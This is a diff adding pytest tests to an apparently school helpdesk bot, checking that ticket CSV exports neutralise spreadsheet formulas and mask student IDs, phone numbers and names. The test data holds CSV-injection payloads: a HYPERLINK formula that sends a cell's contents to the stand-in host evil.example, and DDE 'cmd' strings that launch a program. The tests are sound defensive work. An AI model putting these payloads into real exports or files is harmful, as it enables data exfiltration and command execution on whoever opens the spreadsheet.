@@ -7,7 +7,10 @@ import csv
 import io
 from pathlib import Path
 
+from sqlalchemy import text as sql
+
 from adapters.console import ConsoleChat
+from adapters.runtime import Runtime
 from bot.vocabulary import Person
 from knowledge.loader import shipped_folder
 from tests.adapters.cli.test_cli import prepbot
@@ -100,3 +103,51 @@ async def test_kb_check_published_also_checks_the_articles_published_from_chat(
     assert both.returncode == 1
     assert "database/laminator-jams-or-wrinkles-the-pouch.md" in both.stdout
     assert "phrasing 'laminator keeps jamming' is also in" in both.stdout
+
+
+# What a teacher may type into a ticket's text and room, and what the export must write.
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A3,"Printer fixed - click to confirm")'
+TYPED = [(HYPERLINK, "=1+2"), ("+1+2 the smartboard pen is off by an inch", "@SUM(1+1)"),
+         ("-2+3+cmd|' /C calc'!A0 the printer is jammed again", "-1"),
+         ("@SUM(1+1)*cmd|' /C calc'!A0 the laminator ate a poster", "+44"),
+         ("the document camera shows a grey screen", "204")]
+
+
+async def test_ticket_export_runs_no_formula_a_teacher_typed(
+        chat: ConsoleChat, teacher: Person, database_url: str, tmp_path: Path) -> None:
+    for number, (text, room) in enumerate(TYPED, start=1):
+        [opened] = await chat.submit("tickets.new", {
+            "text": text, "room": room, "urgency": "today", "category": "other",
+            "identifiers": "mask"}, f"formula-{number}", as_=teacher)
+        assert f"#{number}" in opened.text
+    exported = prepbot("tickets", "export", "-", cwd=tmp_path, DATABASE_URL=database_url)
+    [header, *rows] = list(csv.reader(io.StringIO(exported.stdout)))
+    texts = [row[header.index("text")] for row in rows]
+    rooms = [row[header.index("room")] for row in rows]
+    assert texts == [*("'" + text for text, _ in TYPED[:4]), TYPED[4][0]]
+    # A signed plain number runs nothing and stays a number, as do the export's own numbers.
+    assert rooms == ["'=1+2", "'@SUM(1+1)", "-1", "+44", "204"]
+    assert [row[header.index("number")] for row in rows] == ["1", "2", "3", "4", "5"]
+    assert {row[header.index("teachers_affected")] for row in rows} == {"1"}
+
+
+async def test_ticket_export_masks_a_ticket_kept_as_typed(
+        chat: ConsoleChat, teacher: Person, runtime: Runtime, database_url: str,
+        tmp_path: Path) -> None:
+    kept = ("Jaden Smith (student ID 448812) cannot log in; his mom Keisha Smith's cell is "
+            "503-217-6684")
+    await chat.submit("tickets.new", {
+        "text": kept, "room": "Jaden Smith's desk", "urgency": "today",
+        "category": "accounts", "identifiers": "keep"}, "kept", as_=teacher)
+    out = tmp_path / "tickets.csv"
+    exported = prepbot("tickets", "export", str(out), cwd=tmp_path, DATABASE_URL=database_url)
+    assert exported.returncode == 0, exported.stderr
+    [header, row] = list(csv.reader(io.StringIO(out.read_text("utf-8"))))
+    written = out.read_text("utf-8")
+    for detail in ("448812", "503-217-6684", "Jaden", "Keisha"):
+        assert detail not in written
+    assert "[id number]" in row[header.index("text")] and "[phone]" in row[header.index("text")]
+    assert row[header.index("room")] == "[name]'s desk"
+    async with runtime.sessions() as session:  # the coach still reads what was kept
+        stored = (await session.execute(sql("select text from tickets"))).scalar_one()
+    assert stored == kept
